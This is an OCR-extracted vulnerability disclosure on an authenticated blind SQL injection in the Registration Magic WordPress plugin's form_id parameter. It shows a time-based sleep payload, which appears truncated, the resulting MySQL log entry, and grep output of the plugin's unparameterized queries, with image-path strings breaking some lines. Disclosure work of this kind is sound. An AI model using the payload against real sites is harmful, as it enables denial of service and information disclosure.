Vulnerability Discovery

Registration Magic Authenticated Blind SQL Injection inside URL

Registration Magic Version Authenticated Blind SQL Injection in URL



If you still haven’t read the preface to this discovery please take a look here.



Technical DetailsAuthenticated SQL Injection in Form_id field

The form_id field takes input from a number of in the front end and processes it on the backend without properly validating the input, as a result, it is possible to perform an SQL injection on the database if the correct permissions are granted. The most likely attack vector here is DOS or Information Disclosure if a successful phishing campaign is made against the administrator.

Below is the payload used to cause the DOS condition.*from(select(sleep(20)))a)&rm_tr=30


CodeBreakdown

Using sudo tail –f /var/log/mysql/mysql.log, I viewed the SQL injection hitting the database.

SELECT `browser_name`, COUNT(*) AS `count` FROM `wp_rm_stats` WHERE `form_id` = '(select*from(select(sleep(20)))a)' AND `browser_name` IN


Taking a look at how the SQL queries are being generated on the back-end I noticed a number of locations wherein the use of prepared statements were missing.


grep -ri --color=always "wpdb->" | grep "form_id"

plus/chronos/libs/query_builder.php:            $submitters = $wpdb->get_results("SELECT `ID` FROM `$user_table` WHERE `user_email` IN (SELECT `user_email` FROM $rm_subs_table WHERE `form_id` = {$this->form_id})", OBJECT_K);
plus/chronos/libs/rm_chronos.php:        $res = $wpdb->get_results("SELECT * FROM {$tasks_table} WHERE {$where_clause} ORDER BY `form_id`, `task_order`, `task_id`");
plus/chronos/libs/task_model.php:        $max_order = $wpdb->get_var("SELECT MAX(`task_order`) FROM {$table_name} WHERE `form_id` = {$data['form_id']}");includes/class_rm_activator.php:        $wpdb->query("ALTER TABLE`$field_table_name` ADD `page_no` INT(6) NOT NULL DEFAULT '1' AFTER `form_id`");
includes/class_rm_activator.php:                $sfids = $wpdb->get_results("SELECT `form_id`, `form_type` FROM $form_table ORDER BY `form_id` DESC LIMIT 2");
includes/class_rm_dbmanager.php:        $wpdb->delete($table_name, array('page_no' => $page_no, 'form_id' => $form_id), array('%d', '%d'));
includes/class_rm_table_tech.php:        $wpdb->query("ALTER TABLE `$field_table_name` ADD `page_no` INT(6) NOT NULL DEFAULT '1' AFTER `form_id`");
includes/class_rm_migrator.php:                        $form_options = $wpdb->get_var("SELECT form_options FROM $table_name_form WHERE `form_id` = $form_id");
includes/class_rm_migrator.php:                        $wpdb->update($table_name_form,array('form_options' => maybe_serialize($form_options)), array('form_id' => $form_id), '%s', '%d');
services/class_rm_services.php:            $db_fields =$wpdb->get_results("SELECT * FROM `$table_name` WHERE `form_id` = $form_id AND `field_is_editable` = 1AND `field_type` != 'Price' ORDER BY `page_no` ASC, `field_order` ASC");


Update to the latestversion of Registration Magic.